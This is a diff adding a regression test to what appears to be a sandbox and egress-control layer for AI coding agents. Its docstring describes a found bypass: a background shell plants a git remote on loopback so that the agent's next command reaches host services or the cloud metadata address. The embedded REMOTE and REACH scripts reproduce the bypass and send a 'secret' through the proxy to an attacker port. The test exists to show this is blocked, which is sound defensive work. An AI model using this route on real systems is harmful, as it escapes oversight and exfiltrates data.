@@ -22,6 +22,7 @@ from pathlib import Path
 
 import pytest
 
+from orchestrator import sandbox
 from orchestrator.sandbox import landlock
 from tests.sandbox.conftest import needs_landlock
 from tests.sandbox.test_egress import attacker, policy, received_nothing, run  # noqa: F401 (the fixture)
@@ -91,4 +92,63 @@ def test_a_command_in_the_hosts_network_namespace_cannot_register_one_of_its_own
     proc = run(sws, "compiled", f"python3 src/forge.py {attacker.getsockname()[1]} {directory}", monkeypatch)
     assert "SENT" not in proc.stdout, proc.stdout + proc.stderr
     assert "registration: OK" not in proc.stdout, proc.stdout + proc.stderr
+    assert received_nothing(attacker)
+
+
+#: the first command (git mode: it runs code), left running: a remote of its own in .git/config
+REMOTE = textwrap.dedent("""\
+    import sys
+    with open(".git/config", "a") as fh:
+        fh.write('[remote "mirror"]\\n\\turl = http://127.0.0.1:%s/x.git\\n' % sys.argv[1])
+    print("planted", flush=True)
+    sys.stdin.read()
+""")
+#: the second: the attacker's port through the proxy
+REACH = textwrap.dedent("""\
+    import socket, sys
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
+    s.sendall(b"CONNECT 127.0.0.1:%s HTTP/1.1\\r\\n\\r\\n" % sys.argv[1].encode())
+    answer = s.recv(200)
+    if b" 200 " in answer:
+        s.sendall(b"secret")
+        print("SENT")
+    else:
+        print("refused", answer[:80])
+""")
+
+
+@pytest.mark.parametrize("attacker", [0], indirect=True)
+def test_a_remote_a_running_command_adds_widens_no_plan(sws: Path, attacker: socket.socket,  # noqa: F811
+                                                        monkeypatch: pytest.MonkeyPatch) -> None:
+    """The proxy allows the hosts of the repository's git remotes (the person's configuration, ``.git/config`` a
+    governance file) — an address literal exactly, loopback and metadata addresses included. But ``.git/config`` is a
+    git-mode command's while it runs: as found, one left running (an agent's background shell) added a remote
+    ``http://127.0.0.1:PORT`` and the agent's next command was planned with that address allowed, and reached it —
+    a service on the host's loopback (the console, a database), or the cloud metadata address. The plan now takes
+    the git dir's remotes only while no git-mode command runs (else the last ones read while none did)."""
+    import subprocess
+
+    from orchestrator.engine.pipeline import Governor
+    from orchestrator.engine.tools import to_call
+    from tests.sandbox.conftest import Host
+
+    port = attacker.getsockname()[1]
+    (sws / "src" / "remote.py").write_text(REMOTE)
+    (sws / "src" / "reach.py").write_text(REACH)
+    host = Host(sws)
+    first = host.pre(f"python3 src/remote.py {port}", sandbox=True)
+    assert first.allowed and "--git" in (sandbox.options_of(first.command) or [])
+    holder = subprocess.Popen(["/bin/bash", "-c", first.command], cwd=sws, stdin=subprocess.PIPE,
+                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        assert holder.stdout is not None and holder.stdout.readline() == "planted\n", holder.stderr
+        second = Governor(sws, approval_channel="deny").pre(
+            to_call("Bash", {"command": f"python3 src/reach.py {port}"}, session_id="r", agent="claude-code",
+                    cwd=str(sws)), sandbox=True)
+        assert second.allowed, second
+        done = subprocess.run(["/bin/bash", "-c", second.command], cwd=sws, capture_output=True, text=True,
+                              timeout=120)
+    finally:
+        holder.communicate(input="", timeout=60)
+    assert "SENT" not in done.stdout, done.stdout + done.stderr
     assert received_nothing(attacker)
